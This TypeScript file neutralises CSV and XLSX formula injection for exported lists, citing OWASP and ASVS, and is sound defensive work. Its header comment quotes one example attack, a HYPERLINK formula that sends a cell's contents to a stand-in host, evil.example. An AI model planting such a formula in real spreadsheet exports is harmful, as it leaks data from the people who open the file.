// Cells of an exported list that a spreadsheet opens as text, never as a formula. Names and secretaries come from
// imports and forms, so a cell such as =HYPERLINK("http://evil.example/?leak="&A2,"点击查看") would otherwise run in
// the county office that opens the file. The rule is OWASP's (CSV Injection; ASVS 5.0 requirement 1.2.10): a text
// cell whose first character is = + - @, a tab, a carriage return or a NUL gets a leading single quote, which
// Excel, LibreOffice and Google Sheets take as "this is text". Only text is touched: a number (a negative one
// included) stays a number and a date a date, so sums and sorting in the sheet still work.

/** The first characters that make a spreadsheet read a cell as a formula (or hide one behind blank space). */
const FORMULA_START = /^[=+\-@\t\r\0]/;

/** `text`, with a single quote in front when a spreadsheet would read it as a formula. */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/**
 * csv-stringify's `cast` for strings: every text field of a CSV export goes through the rule. Numbers, booleans
 * and dates have casts of their own and are written as they are.
 */
export const csvStringCast = { string: (value: string) => neutralizeFormula(value) };

/**
 * One XLSX cell's value. ExcelJS writes a string as a string cell, but it turns an object holding `formula`,
 * `sharedFormula`, `hyperlink` or `richText` into that kind of cell: any object is therefore written as its JSON
 * text, so no exported value can ever become a formula or a link. Text is neutralised as in the CSV even though
 * Excel does not evaluate a string cell: ASVS names XLSX beside CSV, the cell turns into a live formula as soon
 * as someone edits it or saves the sheet as CSV (as offices passing files on do), and the two downloads of one
 * list then say the same thing.
 */
export function spreadsheetCell(value: unknown): string | number | boolean | Date | null {
  if (value === null || value === undefined) return null;
  if (typeof value === 'string') return neutralizeFormula(value);
  if (typeof value === 'number' || typeof value === 'boolean' || value instanceof Date) return value;
  if (typeof value === 'bigint') return value.toString();
  return neutralizeFormula(JSON.stringify(value) ?? String(value));
}
